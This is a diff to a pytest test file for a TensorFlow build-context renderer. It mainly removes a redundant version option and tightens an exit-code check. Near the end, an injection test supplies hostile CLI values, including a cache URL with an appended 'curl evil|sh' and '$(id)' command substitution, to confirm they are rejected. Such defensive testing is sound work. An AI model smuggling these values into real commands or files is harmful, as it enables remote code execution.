@@ -16,7 +16,8 @@ from pathlib import Path
 import pytest
 
 from tests.conftest import ROOT, recorded_host, run_cli
-from tfbuild.plan import HostFacts, PlanOptions, make_plan
+from tfbuild.detect.host import HostFacts
+from tfbuild.plan import PlanOptions, make_plan
 from tfbuild.recipes import load_base_images, load_recipes
 from tfbuild.render import FILES, render_files, undefined_configs, write_context
 
@@ -37,15 +38,15 @@ def render(version: str, options: PlanOptions, facts: HostFacts | None = None) -
 
 # name -> (version, options, host machine)
 CASES = {
-    "tf2.21-mkl-zen5": ("2.21", PlanOptions(tf="2.21", variant="mkl"), "zen5-vm"),
-    "tf2.21-cuda-x86_64_v3": ("2.21", PlanOptions(tf="2.21", variant="cuda", target="x86_64_v3"), "zen5-vm"),
+    "tf2.21-mkl-zen5": ("2.21", PlanOptions(variant="mkl"), "zen5-vm"),
+    "tf2.21-cuda-x86_64_v3": ("2.21", PlanOptions(variant="cuda", target="x86_64_v3"), "zen5-vm"),
     "tf2.21-openmp-sapphirerapids": (
-        "2.21", PlanOptions(tf="2.21", variant="mkl", mkl_threading="openmp"), "sapphirerapids",
+        "2.21", PlanOptions(variant="mkl", mkl_threading="openmp"), "sapphirerapids",
     ),
-    "tf2.18-cpu-haswell": ("2.18", PlanOptions(tf="2.18", variant="cpu"), "haswell"),
-    "tf2.16-mkl-zen4": ("2.16", PlanOptions(tf="2.16", variant="mkl"), "zen4"),
-    "tf2.16-cuda-x86_64_v3": ("2.16", PlanOptions(tf="2.16", variant="cuda", target="x86_64_v3"), "zen4"),
-    "tf2.13-cpu-skylake": ("2.13", PlanOptions(tf="2.13", variant="cpu"), "skylake_avx512"),
+    "tf2.18-cpu-haswell": ("2.18", PlanOptions(variant="cpu"), "haswell"),
+    "tf2.16-mkl-zen4": ("2.16", PlanOptions(variant="mkl"), "zen4"),
+    "tf2.16-cuda-x86_64_v3": ("2.16", PlanOptions(variant="cuda", target="x86_64_v3"), "zen4"),
+    "tf2.13-cpu-skylake": ("2.13", PlanOptions(variant="cpu"), "skylake_avx512"),
 }  # fmt: skip
 
 
@@ -73,7 +74,7 @@ def test_rendering_is_byte_identical_across_processes(tmp_path: Path) -> None:
         "import sys, dataclasses\n"
         "from tests.render.test_render import render, fixed_host\n"
         "from tfbuild.plan import PlanOptions\n"
-        "files = render('2.21', PlanOptions(tf='2.21', variant='mkl'))\n"
+        "files = render('2.21', PlanOptions(variant='mkl'))\n"
         "sys.stdout.write(''.join(files[k] for k in sorted(files)))\n"
     )
     outputs = set()
@@ -96,7 +97,7 @@ def _all_contexts() -> list[tuple[str, dict[str, str]]]:
     for recipe in load_recipes().recipes:
         variants = ["cpu", "mkl"] + (["cuda"] if recipe.cuda is not None else [])
         for variant in variants:
-            options = PlanOptions(tf=recipe.short, variant=variant)  # type: ignore[arg-type]
+            options = PlanOptions(variant=variant)  # type: ignore[arg-type]
             result.append((f"{recipe.short}-{variant}", render(recipe.short, options)))
     return result
 
@@ -155,7 +156,7 @@ def test_every_config_used_is_defined(name: str, files: dict[str, str]) -> None:
 
 def test_undefined_config_is_caught() -> None:
     recipe = load_recipes().get("2.21")
-    files = render("2.21", PlanOptions(tf="2.21", variant="mkl"))
+    files = render("2.21", PlanOptions(variant="mkl"))
     files["build.sh"] = files["build.sh"].replace(
         "--config=opt", "--config=opt \\\n  --config=avx2_linux"
     )
@@ -176,17 +177,18 @@ def test_render_writes_every_file_and_an_executable_script(tmp_path: Path) -> No
     [
         (["--remote-cache", "grpc://cache:1; curl evil|sh"], "is not a plain URL"),
         (["--cache-volume", "$(id)"], "is not a Docker volume name"),
-        (["--python", "3.11\nRUN x"], "cannot be built for Python"),
+        (["--python", "3.11\nRUN x"], "is not a Python version"),
         (["--cuda-capabilities", "sm_90;id"], "not a compute capability"),
     ],
 )
 def test_hostile_cli_values_never_reach_the_files(
     args: list[str], fragment: str, tmp_path: Path
 ) -> None:
+    """Each is a malformed value: a usage error (exit 2), and nothing is written."""
     extra = ["--cuda"] if "--cuda-capabilities" in args else ["--mkl"]
     result = run_cli(
         "render", "--tf", "2.21", *extra, *args, "-o", str(tmp_path / "ctx"), "--skip-disk-check"
     )
-    assert result.returncode in (2, 4), result.stderr
+    assert result.returncode == 2, result.stderr
     assert fragment in result.stderr
     assert not (tmp_path / "ctx").exists()
